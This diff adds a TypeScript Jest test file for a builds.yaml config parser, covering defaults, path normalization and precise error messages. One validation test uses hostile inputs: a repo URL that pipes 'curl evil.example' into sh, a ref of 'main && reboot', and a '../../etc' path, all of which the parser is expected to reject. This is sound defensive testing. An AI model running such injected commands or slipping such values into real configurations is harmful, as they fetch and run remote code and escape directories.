@@ -1,0 +1,139 @@
+import { mkdtempSync, writeFileSync } from 'fs';
+import { tmpdir } from 'os';
+import { join } from 'path';
+import { ConfigError, loadBuildsFile, parseBuildsFile } from '../lib/config';
+import { SEED_BUILD } from './support/synth';
+
+function problemsOf(text: string): string {
+  try {
+    parseBuildsFile(text, 'builds.yaml');
+  } catch (e) {
+    expect(e).toBeInstanceOf(ConfigError);
+    return (e as Error).message;
+  }
+  throw new Error('expected a ConfigError');
+}
+
+describe('parseBuildsFile: defaults', () => {
+  test('the seed build gets ref main, context "." and Dockerfile defaults', () => {
+    const file = parseBuildsFile(SEED_BUILD);
+    expect(file.registry).toEqual({});
+    expect(file.builders).toEqual({});
+    expect(file.builds).toEqual([{
+      repo: 'https://github.com/jpetazzo/container.training',
+      ref: 'main',
+      defaultBranch: 'main',
+      images: [{ context: 'dockercoins/worker', dockerfile: 'Dockerfile' }],
+    }]);
+  });
+
+  test('a build without images builds the repository root', () => {
+    const file = parseBuildsFile('builds: [{repo: "https://x.example/app.git", ref: v1.0.0, defaultBranch: master}]');
+    expect(file.builds[0]).toMatchObject({ ref: 'v1.0.0', defaultBranch: 'master', images: [{ context: '.', dockerfile: 'Dockerfile' }] });
+  });
+
+  test('paths are normalized', () => {
+    const file = parseBuildsFile('builds: [{repo: "https://x.example/app.git", images: [{context: ./svc/api/, dockerfile: ./docker/Dockerfile.prod}]}]');
+    expect(file.builds[0].images[0]).toEqual({ context: 'svc/api', dockerfile: 'docker/Dockerfile.prod' });
+  });
+});
+
+describe('parseBuildsFile: errors name the file, line, key and fix', () => {
+  test('unknown key', () => {
+    expect(problemsOf(`builds:
+  - repo: https://x.example/app.git
+    images:
+      - context: api
+        name: my-api
+`)).toBe('builds.yaml:5:9: builds[0].images[0].name: unknown key "name": image names are derived from the context directory (or the repository name) and cannot be set; remove it');
+  });
+
+  test('unknown top-level key lists the allowed ones', () => {
+    expect(problemsOf(`registy: {nodePort: 30500}\n${SEED_BUILD}`)).toBe(
+      'builds.yaml:1:1: registy: unknown key "registy": allowed keys here: registry, builders, builds');
+  });
+
+  test('wrong type', () => {
+    expect(problemsOf(`registry:\n  nodePort: "30500"\n${SEED_BUILD}`)).toBe(
+      'builds.yaml:2:13: registry.nodePort: must be a whole number, got string "30500"');
+    expect(problemsOf('builds: {repo: x}')).toBe('builds.yaml:1:9: builds: must be a array, got a mapping');
+  });
+
+  test('nodePort out of range', () => {
+    expect(problemsOf(`registry:\n  nodePort: 5000\n${SEED_BUILD}`)).toBe(
+      'builds.yaml:2:13: registry.nodePort: 5000 is outside the NodePort range 30000-32767; pick a value in 30000-32767');
+    expect(problemsOf(`registry:\n  nodePort: 40000\n${SEED_BUILD}`)).toMatch(/40000 is outside the NodePort range 30000-32767/);
+  });
+
+  test('empty or missing builds', () => {
+    expect(problemsOf('builds: []')).toBe('builds.yaml:1:9: builds: must list at least 1 item');
+    expect(problemsOf('registry: {nodePort: 30500}')).toBe('builds.yaml:1:1: (top level): missing required key "builds": add it');
+    expect(problemsOf('')).toMatch(/must be a object, got null/);
+  });
+
+  test('every problem is reported at once', () => {
+    const message = problemsOf(`registry: {nodePort: 1}
+builders: {workload: Deployment}
+builds:
+  - repo: https://x.example/app.git
+    tag: v1
+`);
+    expect(message.split('\n')).toEqual([
+      'builds.yaml:1:22: registry.nodePort: 1 is outside the NodePort range 30000-32767; pick a value in 30000-32767',
+      'builds.yaml:2:22: builders.workload: "Deployment" is not one of "Job", "Pod"',
+      'builds.yaml:5:5: builds[0].tag: unknown key "tag": tags are derived from "ref"; set the ref to the branch or tag to build instead',
+    ]);
+  });
+
+  test('duplicate keys are YAML errors, not silently merged', () => {
+    expect(problemsOf(`builds:
+  - repo: https://x.example/a.git
+    repo: https://x.example/b.git
+`)).toMatch(/^builds\.yaml:3:5: \(top level\): YAML error: Map keys must be unique/);
+  });
+
+  test('YAML syntax errors carry their position', () => {
+    expect(problemsOf('builds:\n  - repo: [unclosed\n')).toMatch(/^builds\.yaml:\d+:\d+: \(top level\): YAML error: /);
+  });
+
+  test('source rules: ref, repo and paths', () => {
+    const message = problemsOf(`builds:
+  - repo: "https://x.example/app.git; curl evil.example | sh"
+    ref: "main && reboot"
+    images:
+      - context: ../../etc
+        dockerfile: /Dockerfile
+`);
+    expect(message.split('\n')).toEqual([
+      expect.stringMatching(/^builds\.yaml:2:11: builds\[0\]\.repo: ".*" contains a space, control or shell character; use a URL such as/),
+      expect.stringMatching(/^builds\.yaml:3:10: builds\[0\]\.ref: "main && reboot" contains a space, control or shell character; use a branch name/),
+      expect.stringMatching(/^builds\.yaml:5:18: builds\[0\]\.images\[0\]\.context: "\.\.\/\.\.\/etc" escapes the repository with "\.\."/),
+      expect.stringMatching(/^builds\.yaml:6:21: builds\[0\]\.images\[0\]\.dockerfile: "\/Dockerfile" is absolute/),
+    ]);
+  });
+
+  test('placement values are checked', () => {
+    expect(problemsOf(`builders:
+  nodeSelector: {builder: true}
+  tolerations: [{key: dedicated, operator: Same, effect: NoSchedule}]
+  resources: {limits: {memory: 1GB}}
+${SEED_BUILD}`).split('\n')).toEqual([
+      'builds.yaml:2:27: builders.nodeSelector.builder: must be a string, got boolean true (quote it)',
+      'builds.yaml:3:44: builders.tolerations[0].operator: "Same" is not one of "Equal", "Exists"',
+      'builds.yaml:4:32: builders.resources.limits.memory: "1GB" is not valid here (expected a whole number of Mi, Gi or Ti such as "512Mi" or "10Gi")',
+    ]);
+  });
+});
+
+describe('loadBuildsFile', () => {
+  test('reads a file and names it in errors', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'builds-'));
+    const file = join(dir, 'custom.yaml');
+    writeFileSync(file, 'builds: []\n');
+    expect(() => loadBuildsFile(file)).toThrow(`${file}:1:9: builds: must list at least 1 item`);
+  });
+
+  test('a missing file says how to point at one', () => {
+    expect(() => loadBuildsFile('/nonexistent/builds.yaml')).toThrow(/cannot read the file \(ENOENT\); create it or set BUILDS_CONFIG/);
+  });
+});
